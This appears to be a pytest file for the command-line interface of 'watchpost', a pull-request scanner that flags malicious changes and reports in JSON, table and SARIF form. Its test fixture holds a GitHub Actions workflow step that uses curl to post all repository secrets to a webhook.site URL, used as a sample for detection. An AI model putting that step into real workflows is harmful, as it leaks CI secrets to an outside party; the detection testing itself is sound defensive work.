"""The CLI as a user runs it: a real ``watchpost`` process, real files, exit codes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from scanners.rules.registry import new_file
from tests.conftest import DIFFS, requires_corpus
from tests.fake_openai import completion, fake_openai_server
from tests.sarif_schema import code_scanning_problems, sarif_errors

MALICIOUS = new_file(".github/workflows/x.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"$S\" https://webhook.site/abc\n        env:\n          S: ${{ toJSON(secrets) }}\n")
CLEAN = new_file("README.md", "Hello.\n")


def run_cli(*args: str, stdin: bytes | None = None, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[bytes]:
    base = {k: v for k, v in os.environ.items() if not k.startswith("WATCHPOST_")}
    base.update(env or {})
    return subprocess.run([sys.executable, "-m", "app.cli", *args], input=stdin, capture_output=True, env=base, timeout=120, check=False)


def test_json_from_stdin_and_fail_on() -> None:
    result = run_cli("scan-pr", "-", "--json", "--offline", "--fail-on", "suspicious", stdin=MALICIOUS.encode())
    assert result.returncode == 1, result.stderr
    report = json.loads(result.stdout)
    assert report["verdict"] in {"suspicious", "dangerous"}
    assert report["tiers_skipped"]["tier3"].startswith("--offline")
    clean = run_cli("scan-pr", "-", "--json", "--offline", "--fail-on", "suspicious", stdin=CLEAN.encode())
    assert clean.returncode == 0 and json.loads(clean.stdout)["threats"] == []


def test_table_output_names_the_finding(tmp_path: Path) -> None:
    path = tmp_path / "pr.diff"
    path.write_text(MALICIOUS, encoding="utf-8")
    result = run_cli("scan-pr", str(path), "--offline")
    assert result.returncode == 0
    out = result.stdout.decode()
    assert "supply_chain_mod" in out and "x.yml" in out


def test_unusable_input_exits_2_with_one_line(tmp_path: Path) -> None:
    result = run_cli("scan-pr", str(tmp_path / "missing"), "--offline")
    assert result.returncode == 2
    assert result.stderr.decode().count("\n") == 1 and "no such file" in result.stderr.decode()
    (tmp_path / "ws").mkdir()
    (tmp_path / "ws" / "metadata.json").write_text("{broken", encoding="utf-8")
    broken = run_cli("scan-pr", str(tmp_path / "ws"))
    assert broken.returncode == 2 and b"not valid JSON" in broken.stderr


def test_sarif_output_is_valid(tmp_path: Path) -> None:
    sarif = tmp_path / "out.sarif"
    result = run_cli("scan-pr", "-", "--offline", "--sarif", str(sarif), "--sarif-anchor", ".github/workflows/scan.yml", stdin=MALICIOUS.encode())
    assert result.returncode == 0
    document = json.loads(sarif.read_text(encoding="utf-8"))
    assert sarif_errors(document) == [] and code_scanning_problems(document) == []
    results = document["runs"][0]["results"]
    assert results and all(r["ruleId"] for r in results)
    located = [(r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], r["properties"]["inFile"]) for r in results]
    assert (".github/workflows/x.yml", True) in located


def test_settings_error_names_the_variable() -> None:
    result = run_cli("scan-pr", "-", stdin=CLEAN.encode(), env={"WATCHPOST_LLM_BASE_URL": "not a url", "WATCHPOST_LLM_MODEL": "m"})
    assert result.returncode == 2
    assert b"WATCHPOST_LLM_BASE_URL" in result.stderr


def test_llm_tier_over_http_between_processes() -> None:
    answer = json.dumps({"findings": [{"type": "supply_chain_mod", "severity": "critical", "path": ".github/workflows/x.yml", "line": 6, "detail": "exfil", "evidence": None}], "summary": ""})
    with fake_openai_server(lambda body: (200, completion(answer))) as (url, received):
        result = run_cli("scan-pr", "-", "--json", stdin=MALICIOUS.encode(), env={"WATCHPOST_LLM_BASE_URL": url, "WATCHPOST_LLM_MODEL": "fake"})
    report = json.loads(result.stdout)
    assert "tier3" in report["tiers_completed"] and len(received) == 1


@requires_corpus
def test_rules_markdown_command_matches_docs() -> None:
    result = run_cli("rules", "--markdown")
    assert result.returncode == 0
    assert result.stdout.decode() == (Path(__file__).resolve().parents[2] / "docs" / "rules.md").read_text(encoding="utf-8")


@requires_corpus
@pytest.mark.parametrize("name", ["shai-hulud-workflow", "benign-docs-readme"])
def test_corpus_diff_file(name: str) -> None:
    result = run_cli("scan-pr", str(DIFFS / f"{name}.patch"), "--json", "--offline", "--fail-on", "dangerous")
    report = json.loads(result.stdout)
    if name == "shai-hulud-workflow":
        assert result.returncode == 1 and report["verdict"] == "dangerous"
    else:
        assert result.returncode == 0 and report["verdict"] == "safe" and report["confidence"] == "low"
